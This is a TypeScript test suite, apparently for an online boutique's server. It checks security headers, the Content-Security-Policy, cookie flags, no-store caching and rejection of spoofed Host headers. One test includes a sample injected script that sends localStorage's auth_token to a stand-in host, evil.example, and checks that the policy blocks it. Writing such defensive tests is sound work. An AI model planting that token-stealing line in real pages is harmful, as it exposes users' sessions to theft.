import { createHash } from 'node:crypto'
import { beforeAll, describe, expect, test } from 'vitest'
import { createApp } from '../../server/http/app.ts'
import { aCustomer } from '../factories/customer.ts'
import { freshDatabase } from '../setup/fresh-database.ts'
import { openAttackedShop } from './attacked-shop.ts'
import { fakeStorefront } from './fake-storefront.ts'

const database = freshDatabase()
let shop: ReturnType<typeof openAttackedShop>
let secureShop: ReturnType<typeof openAttackedShop>
const config = { PUBLIC_URL: 'https://boutique.example', MAIL_FROM: 'bonjour@boutique.example', TRUSTED_PROXIES: [] }
beforeAll(() => {
  shop = openAttackedShop(database)
  secureShop = openAttackedShop(database, { config })
})

const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`
const policyOf = async (app: ReturnType<typeof createApp>, path = '/') =>
  (await app.request(path)).headers.get('Content-Security-Policy') ?? ''

describe('headers (security, headers)', () => {
  test.each(['/api/products', '/api/cart', '/api/nothing', '/healthz', '/media/x/y', '/nothing'])('%s', async (path) => {
    const { headers } = await shop.call('GET', path)
    expect(headers.get('X-Content-Type-Options')).toBe('nosniff')
    expect(headers.get('Cross-Origin-Opener-Policy')).toBe('same-origin')
    expect(headers.get('Cross-Origin-Resource-Policy')).toBe('same-origin')
    expect(headers.get('Referrer-Policy')).toBe('strict-origin-when-cross-origin')
    expect(headers.get('X-Frame-Options')).toBe('DENY')
    expect(headers.get('Content-Security-Policy')).toBe("default-src 'none'; base-uri 'none'; frame-ancestors 'none'")
    expect(headers.get('X-Powered-By')).toBeNull()
    expect(headers.get('Server')).toBeNull()
    expect(headers.get('Access-Control-Allow-Origin')).toBeNull()
  })

  test('HSTS is sent under https and only there', async () => {
    expect((await shop.call('GET', '/healthz')).headers.get('Strict-Transport-Security')).toBeNull()
    expect((await secureShop.call('GET', '/healthz')).headers.get('Strict-Transport-Security')).toMatch(/max-age=31536000/)
  })

  test('the cookie of a Google sign-in is HttpOnly and SameSite, and Secure under https', async () => {
    const plain = (await shop.call('GET', '/api/auth/oauth/google/start')).headers.get('Set-Cookie') ?? ''
    const secure = (await secureShop.call('GET', '/api/auth/oauth/google/start')).headers.get('Set-Cookie') ?? ''
    expect(plain).toMatch(/; Path=\/api\/auth\/oauth/)
    expect(plain).toMatch(/; HttpOnly/)
    expect(plain).toMatch(/; SameSite=Lax/)
    expect(plain).not.toMatch(/; Secure/)
    expect(secure).toMatch(/^__Host-identity-flow=[^;]+;.*; Path=\/;/)
    expect(secure).toMatch(/; HttpOnly.*; Secure|; Secure.*; HttpOnly/)
  })

  test('a response to a signed-in user is not cached, nor is one with a token', async () => {
    const { token, email } = await aCustomer(database.db, { password: 'Nuage-de-lin-26' })
    const answers = [
      await shop.call('GET', '/api/auth/me', { token }),
      await shop.call('GET', '/api/orders/none', { token }),
      await shop.call('POST', '/api/auth/signin', { body: { email, password: 'Nuage-de-lin-26' } }),
      await shop.call('POST', '/api/auth/signin', { body: { email, password: 'wrong-wrong' } }),
    ]
    expect(answers.map(({ status }) => status)).toEqual([200, 404, 200, 401])
    expect(answers.map(({ headers }) => headers.get('Cache-Control'))).toEqual(Array(4).fill('no-store'))
  })
})

describe("a page's policy (decision 13)", () => {
  const own = 'window.shop = 1'
  const appOf = (body: Parameters<typeof fakeStorefront>[0]) => createApp(shop.context, fakeStorefront(body))

  test('has no unsafe-inline and no host but the shop; its own scripts run by their hash', async () => {
    const policy = await policyOf(appOf((_request, mark) => `<script nonce="${mark}">${own}</script>`))
    expect(policy).toContain(`script-src 'self' ${hashOf(own)};`)
    expect(policy).not.toMatch(/unsafe|nonce|https?:|\*/)
    for (const rule of [
      "object-src 'none'",
      "base-uri 'none'",
      "frame-ancestors 'none'",
      "connect-src 'self'",
      "style-src 'self'",
      "require-trusted-types-for 'script'",
      'trusted-types default',
      'report-uri /api/csp-reports',
    ]) {
      expect(policy).toContain(rule)
    }
  })

  test('names the address of its reports, under https also for the Reporting API, which browsers accept only there', async () => {
    const [plain, secure] = await Promise.all(
      [shop, secureShop].map(async ({ context }) =>
        createApp(
          context,
          fakeStorefront(() => ''),
        ).request('/'),
      ),
    )
    expect(plain?.headers.get('Content-Security-Policy')).toMatch(/; report-uri \/api\/csp-reports$/)
    expect(secure?.headers.get('Content-Security-Policy')).toMatch(/; report-uri \/api\/csp-reports; report-to csp$/)
    expect(secure?.headers.get('Reporting-Endpoints')).toBe('csp="/api/csp-reports"')
  })

  test('an injected script without the nonce gets no hash', async () => {
    const injected = 'fetch("//evil.example?" + localStorage.auth_token)'
    const policy = await policyOf(
      appOf(
        (_request, mark) =>
          `<script>${injected}</script><script nonce="guess">${injected}</script><script nonce="${mark}">${own}</script>`,
      ),
    )
    expect(policy).toContain(hashOf(own))
    expect(policy).not.toContain(hashOf(injected))
  })

  test('the nonce of the storefront is not sent to the browser', async () => {
    const app = appOf((_request, mark) => `<link nonce="${mark}"><script nonce="${mark}">${own}</script>`)
    const [first, second] = [await app.request('/'), await app.request('/')]
    const text = await first.text()
    expect(text).toContain(`<script>${own}</script>`)
    expect(text).toBe(await second.text())
    expect([...first.headers.keys()]).not.toContain('x-own-scripts')
  })
})

describe('pages', () => {
  test.each(['evil.example', 'boutique.example.evil.example', '127.0.0.1'])(
    'Host %s is not used for rendering (security, reset)',
    async (host) => {
      const requested: string[] = []
      const app = createApp(secureShop.context, {
        ...fakeStorefront((request) => (requested.push(request.url), '')),
      })
      for (const path of [`/x-${host}`, `/sign-in`, `//${host}/x`]) await app.request(new Request(`http://${host}${path}`))
      expect(requested.map((url) => new URL(url).origin)).toEqual(Array(3).fill(config.PUBLIC_URL))
      expect(new URL(requested[2] ?? '').pathname).toBe(`//${host}/x`)
    },
  )

  test('a page that fails is 503, the only status of a server error (contract 4, statuses)', async () => {
    const app = createApp(
      shop.context,
      fakeStorefront(() => 'Panne', 500),
    )
    const answer = await app.request('/panne')
    expect(answer.status).toBe(503)
  })

  test.each(['POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'])('%s to a page is 405 and names allowed methods', async (method) => {
    const answer = await createApp(shop.context, fakeStorefront()).request('/products', { method })
    expect(answer.status).toBe(405)
    expect(answer.headers.get('Allow')).toBe('GET, HEAD')
    expect(answer.headers.get('Content-Type')).toMatch(/problem\+json/)
  })
})
